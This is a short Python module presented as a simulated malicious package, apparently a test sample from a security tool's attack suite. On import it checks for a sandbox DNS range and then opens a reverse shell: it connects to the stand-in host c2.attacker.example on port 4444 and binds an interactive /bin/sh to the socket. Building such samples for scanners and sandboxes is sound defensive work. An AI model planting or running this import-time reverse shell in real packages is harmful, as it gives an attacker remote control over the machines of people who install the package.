"""secrevthree 0.0.1 (simulation from Tracehound's attack suite): reverse shell on import."""
import os
import socket
import subprocess

def _in_sandbox():
    # act only inside the Tracehound sandbox, whose fake DNS answers every name with a
    # 198.18.0.0/15 address; elsewhere .example names do not resolve and nothing happens
    import socket
    try:
        return socket.gethostbyname("sandbox-check.attacker.example").startswith(("198.18.", "198.19."))
    except OSError:
        return False


def _shell():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect(("c2.attacker.example", 4444))
    except OSError:
        return
    pid = os.fork()
    if pid == 0:
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        try:
            subprocess.call(["/bin/sh", "-i"], timeout=3)
        except Exception:
            pass
        os._exit(0)
    os.waitpid(pid, 0)
    s.close()


if _in_sandbox():
    _shell()
